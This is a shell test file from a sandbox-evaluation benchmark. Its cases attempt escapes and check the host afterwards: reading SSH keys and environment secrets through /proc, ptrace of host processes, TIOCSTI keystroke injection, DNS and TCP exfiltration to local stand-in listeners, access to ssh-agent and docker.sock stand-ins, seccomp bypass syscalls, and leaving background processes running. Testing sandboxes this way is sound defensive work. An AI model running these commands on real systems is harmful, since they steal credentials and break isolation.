# ESCAPES.md cases 12–24, 26, 27 and 30 (other processes, the kernel, the network, the environment) as
# shell attempts, each checked on the host afterwards. Sourced by bench/escapes-compare.sh.

# host_process: a process outside every sandbox, in the sibling directory, with a secret in its
# environment; HOST_PID is its pid.
host_process() {
  (cd "$OUTSIDE" && exec "${AS[@]}" env "HOST_ONLY=hostenv-$SECRET" sleep 120) &
  HOST_PID=$!
}
end_host_process() {
  kill -KILL "$HOST_PID" 2>/dev/null  # a ptrace attach may have left it stopped: TERM would wait
  wait "$HOST_PID" 2>/dev/null
}

title_12="/proc/self/root, /proc/1/root, /proc/<host pid>/environ, root and cwd"
case_12() {
  host_process
  attempt <<EOF
cat /proc/self/root\$HOME/.ssh/id_rsa
cat /proc/1/root\$HOME/.ssh/id_rsa
tr '\\0' '\\n' < /proc/$HOST_PID/environ
cat /proc/$HOST_PID/root\$HOME/.ssh/id_rsa
ls /proc/$HOST_PID/cwd/
ls /proc | grep -qx $HOST_PID && echo VISIBLE-$HOST_PID
EOF
  run
  end_host_process
  part 'host file through /proc' has "PRIVATE KEY----- $SECRET"
  part "host process's environment" has "hostenv-$SECRET"
  part "host process's cwd" has victim.txt
  part 'host process visible' has "VISIBLE-$HOST_PID"
}

title_13="mount, umount, unshare -r, pivot_root, chroot"
case_13() {
  # The tools first: the probe detaches /proc, after which unshare(1) cannot write its uid map.
  attempt <<EOF
unshare -r true && echo ESCAPED-unshare-r
unshare -rm true && echo ESCAPED-unshare-rm
mount -t tmpfs none /mnt && echo ESCAPED-mount-tool
$PY $PROBE mount
EOF
  # Unconfined, as root, the probe would detach the host's /proc: the control runs in a private mount
  # namespace of its own (still no sandbox: every call it makes is allowed).
  if [ "$TOOL" = none ] && [ -z "${ESCAPES_AS_UID:-}" ]; then RUN_WRAP="unshare -m --propagation private" run; else run; fi
  local call
  for call in mount umount2 chroot pivot-root unshare-user unshare-mount; do
    part "$call" has "^$call OK"
  done
  part 'unshare -r' has ESCAPED-unshare-r
  part 'mount(8)' has ESCAPED-mount-tool
}

title_14="ptrace / process_vm_readv against a host process"
case_14() {
  host_process
  attempt <<EOF
$PY $PROBE ptrace-attach $HOST_PID
$PY $ATTEMPTS vm-readv $HOST_PID
$PY $PROBE ptrace-traceme
$PY $PROBE process-vm-readv
EOF
  run
  end_host_process
  part ptrace-attach has '^ptrace-attach OK'
  part process_vm_readv has '^vm-readv \(OK\|EFAULT\|EIO\)'
  local self
  self=$(printf '%s' "$SEEN" | grep -E '^(ptrace-traceme|process-vm-readv) ' | tr '\n' ' ')
  note "on itself: ${self% }"
}

title_15="signal a process outside the sandbox"
case_15() {
  host_process
  attempt <<EOF
kill -TERM $HOST_PID
kill -KILL $HOST_PID
EOF
  run
  sleep 0.3
  part 'kill host process' dead "$HOST_PID"
  end_host_process
}

# dead PID: gone or a zombie (this shell has not reaped it yet).
dead() {
  case $(ps -o stat= -p "$1" 2>/dev/null) in
    '' | Z*) return 0 ;;
    *) return 1 ;;
  esac
}

title_16="TIOCSTI into the controlling terminal (and TIOCLINUX, high bits)"
case_16() {
  local word="INJ$$x$RANDOM"
  attempt <<EOF
$PY $ATTEMPTS tiocsti-tty $word
$PY $PROBE tiocsti
EOF
  run_pty
  part 'keystrokes reached the terminal' has "GOT:$word"
  has '^open-dev-tty ENXIO' && note "no controlling terminal"
  if has '^tiocsti EPERM'; then note "seccomp refuses TIOCSTI"; elif has '^tiocsti ENOTTY'; then note "no TIOCSTI filter"; fi
  has '^tiocsti-tty EPERM via fd' && note "TIOCSTI on the inherited terminal: EPERM"
}

title_17="TCP and UDP to servers on 127.0.0.1 (network off)"
case_17() {
  listen tcp udp
  attempt <<EOF
echo escaped > /dev/tcp/127.0.0.1/$TCP_PORT
$PY $PROBE tcp $TCP_PORT
$PY $PROBE udp 127.0.0.1 $UDP_PORT
EOF
  run
  unlisten
  part TCP hit tcp
  part UDP hit udp
}

title_18="DNS to exfiltrate: UDP to a resolver on 127.0.0.1:53"
case_18() {
  # A stand-in resolver on this machine; `getent hosts` would ask the host's real resolver, which is
  # not ours to send test traffic to.
  listen udp53
  attempt <<EOF
$PY -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x07example\x00\x00\x01\x00\x01', ('127.0.0.1', 53)); print('sent')"
$PY $PROBE udp 127.0.0.1 53
EOF
  run
  unlisten
  part 'datagram to :53' hit udp53
}

title_19="connect to an abstract unix socket of a host process"
case_19() {
  local name="warden-escapes-$$-$RANDOM"
  listen "abstract:$name"
  attempt <<EOF
$PY $PROBE abstract $name
EOF
  run
  unlisten
  part 'abstract socket' hit "abstract:$name"
}

title_20="connect to unix sockets outside the workspace (ssh agent, /run docker.sock stand-in, plain dir)"
case_20() {
  local run_dir="/run/warden-escapes-$$"
  mkdir -p "$run_dir"
  own "$run_dir"
  listen "unix:$HOME_FX/.ssh/agent.sock" "unix:$run_dir/docker.sock" "unix:$OUTSIDE/app.sock"
  attempt <<EOF
$PY $PROBE unix $HOME_FX/.ssh/agent.sock
$PY $PROBE unix $run_dir/docker.sock
$PY $PROBE unix $OUTSIDE/app.sock
EOF
  run
  unlisten
  rm -rf "$run_dir"
  part '~/.ssh/agent.sock' hit "unix:$HOME_FX/.ssh/agent.sock"
  part /run/.../docker.sock hit "unix:$run_dir/docker.sock"
  part 'socket in a readable dir' hit "unix:$OUTSIDE/app.sock"
}

title_21="io_uring_setup"
case_21() {
  attempt <<EOF
$PY $PROBE io-uring-setup
EOF
  run
  part io_uring_setup has '^io-uring-setup OK'
}

title_22="i386 (int 0x80) and x32 syscalls past a 64-bit filter"
case_22() {
  attempt <<EOF
$PY $PROBE int80
$PY $ATTEMPTS int80-socket
$PY $PROBE x32
EOF
  run
  part 'int 0x80 getpid' has '^int80 returned [1-9]'
  part 'int 0x80 socket(AF_INET)' has '^int80-socket OK'
  part 'x32 getpid' has '^x32 returned [1-9]'
}

title_23="secrets in the environment (AWS_SECRET_ACCESS_KEY, GITHUB_TOKEN, SSH_AUTH_SOCK)"
case_23() {
  attempt <<'EOF'
env
tr '\0' '\n' < /proc/self/environ
tr '\0' '\n' < /proc/$PPID/environ
EOF
  run
  part 'AWS_SECRET_ACCESS_KEY / GITHUB_TOKEN' has "$ENV_SECRET"
  part SSH_AUTH_SOCK has SSH_AUTH_SOCK
}

title_26="fill the disk or fork-bomb"
case_26() {
  # Not attempted on a shared machine: a real fork bomb or disk fill would hurt the neighbours. What
  # bounds a command there is read instead.
  attempt <<'EOF'
echo "nproc=$(ulimit -u) fsize=$(ulimit -f)"
cg=$(sed -n 's/^0:://p' /proc/self/cgroup)
echo "pids.max=$(cat "/sys/fs/cgroup$cg/pids.max" 2>/dev/null || echo none-found)"
EOF
  run
  VERDICT="not run"
  note "$(printf '%s' "$SEEN" | grep -E '^(nproc|pids)' | tr '\n' ' ' | sed 's/ $//')"
}

title_27="leave a background process running after the command exits (plain and setsid)"
case_27() {
  attempt <<'EOF'
bash -c 'echo $$ > lib/pid; while :; do echo . >> lib/heartbeat; sleep 0.05; done' >/dev/null 2>&1 &
sleep 0.3
echo started
EOF
  run
  part 'background job' survives
  fixture
  attempt <<'EOF'
setsid bash -c 'echo $$ > lib/pid; while :; do echo . >> lib/heartbeat; sleep 0.05; done' >/dev/null 2>&1 &
sleep 0.3
echo started
EOF
  run
  part 'setsid process' survives
}

# survives: the heartbeat still grows after the command exited; then ends every process left in the
# fixture's workspace (only processes this script started have it as working directory).
survives() {
  local before after pid
  sleep 0.3
  before=$(wc -c <"$WS/lib/heartbeat" 2>/dev/null || echo 0)
  sleep 0.5
  after=$(wc -c <"$WS/lib/heartbeat" 2>/dev/null || echo 0)
  for pid in /proc/[0-9]*; do
    [ "$(readlink "$pid/cwd" 2>/dev/null)" = "$WS" ] && kill -9 "${pid#/proc/}" 2>/dev/null
  done
  [ "$before" != "$after" ]
}

title_30="bwrap missing from PATH (the isolation a backend needs is unavailable)"
case_30() {
  # A host without bubblewrap, as far as PATH goes: every program of /usr/bin and /usr/local/bin but bwrap.
  # Landlock needs nothing from PATH; a kernel without Landlock cannot be simulated here.
  attempt <<'EOF'
cat "$HOME/.ssh/id_rsa"
echo x > ../outside/victim.txt
EOF
  ALLOW_NOT_STARTED=1
  RUN_PATH="$WORK/no-bwrap-bin" run
  if [ "$TOOL" = none ]; then
    VERDICT="n/a"
    note "no sandbox by definition"
  elif refusal_contains; then
    :
  else
    part 'read a denied file' has "PRIVATE KEY----- $SECRET"
    part 'wrote outside' changed "$OUTSIDE/victim.txt" untouched
    [ -z "$ESCAPED" ] && note "ran, confined"
  fi
}
